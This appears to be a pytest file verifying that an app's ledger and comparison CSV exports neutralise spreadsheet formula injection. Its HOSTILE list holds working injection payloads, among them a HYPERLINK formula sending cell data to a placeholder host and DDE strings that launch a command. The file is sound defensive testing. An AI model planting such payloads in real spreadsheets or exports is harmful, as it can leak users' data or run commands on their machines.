"""Exported CSVs (the ledger's, a comparison's) never hand a spreadsheet a formula to run."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

import pytest

from lib import clock, compare
from lib.config import ProviderConfig
from lib.spreadsheet import FORMULA_STARTS

HOSTILE = ['=HYPERLINK("http://canary.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|'/c calc'!A1"]


def formula_cells(csv_text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row if cell.startswith(FORMULA_STARTS)]


def test_ledger_csv_neutralises_every_formula_cell(studio_env):
    from lib.errors import ProviderDown
    from lib.store import open_store, record_call, report

    cfg = ProviderConfig("openai", "demo", "http://127.0.0.1:9/v1", "demo", "demo")
    for text in HOSTILE:
        record_call(page="generate", action="generate", cfg=cfg, prompt=text, negative_prompt=text, model="gpt-image-2",
                    error=ProviderDown(text, provider="openai", code="x"))
    _store, ledger = open_store()
    frame = report.export_frame(ledger, report.Selection(clock.today() - timedelta(days=1), clock.today()))
    exported = report.to_csv(frame).decode("utf-8")
    assert formula_cells(exported) == []
    prompts = [row["prompt"] for row in csv.DictReader(io.StringIO(exported))]
    assert sorted(prompts) == sorted("'" + t for t in HOSTILE)  # the text is all there, as text
    assert sorted(frame["prompt"]) == sorted(HOSTILE)  # Parquet (the frame) keeps it exactly


def test_comparison_csv_neutralises_prompts_and_errors():
    run = compare.plan(HOSTILE, [compare.Target("=1+1 target", "openai", "gpt-image-2", {})], "g1")
    with zipfile.ZipFile(io.BytesIO(compare.export_zip(run))) as zf:
        exported = zf.read("comparison.csv").decode("utf-8")
    assert formula_cells(exported) == []
    assert "'=HYPERLINK" in exported and "'=1+1 target" in exported


@pytest.mark.parametrize("value,expected", [("=1", "'=1"), ("safe", "safe"), (-3.5, -3.5), (None, None), ("", "")])
def test_formula_safe_touches_only_text_that_starts_like_a_formula(value, expected):
    from lib.spreadsheet import formula_safe

    assert formula_safe(value) == expected
